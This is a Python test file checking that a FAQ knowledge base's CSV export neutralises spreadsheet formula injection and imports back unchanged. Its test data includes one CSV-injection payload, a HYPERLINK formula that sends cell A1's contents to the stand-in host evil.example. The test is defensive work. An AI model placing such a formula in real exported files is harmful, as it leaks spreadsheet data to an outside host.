"""The knowledge base's CSV export opens safely in a spreadsheet and imports back to the same FAQs."""
from __future__ import annotations

import csv
import io

from handoff.knowledge import faqs

TRICKY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100 is our number", "-5% off today",
          "@SUM(1+1)", "'=already quoted", "'just an apostrophe", "\uff1dfullwidth", "''=two quotes"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_export_never_starts_a_cell_with_a_formula_and_imports_back_the_same(app, tmp_path):
    faqs.create_faq(TRICKY[0], "billing", TRICKY[1:], slug="tricky")
    faqs.create_faq("-- dashes first", "orders", ["- how do I return?"], slug="plain", enabled=False)
    before = faqs.list_faqs()
    answers, questions = faqs.export_csv()
    for cell in _cells(answers) + _cells(questions):
        assert not cell.startswith(("=", "+", "-", "@", "\uff1d")), cell

    for f in before:
        faqs.delete_faq(f["id"])
    (tmp_path / "a.csv").write_text(answers)
    (tmp_path / "q.csv").write_text(questions)
    assert faqs.import_csv(tmp_path / "a.csv", tmp_path / "q.csv") == (2, len(TRICKY))
    after = faqs.list_faqs()
    strip = [{k: v for k, v in f.items() if k not in ("id", "updated_at")} for f in before]
    assert [{k: v for k, v in f.items() if k not in ("id", "updated_at")} for f in after] == strip
    assert faqs.export_csv() == (answers, questions)


def test_a_spreadsheet_users_quoted_formula_imports_as_text(app, tmp_path):
    (tmp_path / "a.csv").write_text("answer_id,answer,category\nsum,'=1+1 is two,billing\n")
    (tmp_path / "q.csv").write_text("question,answer_id\n'+ what is one plus one,sum\n")
    faqs.import_csv(tmp_path / "a.csv", tmp_path / "q.csv")
    (faq,) = faqs.list_faqs()
    assert faq["answer"] == "=1+1 is two" and faq["phrasings"] == ["+ what is one plus one"]
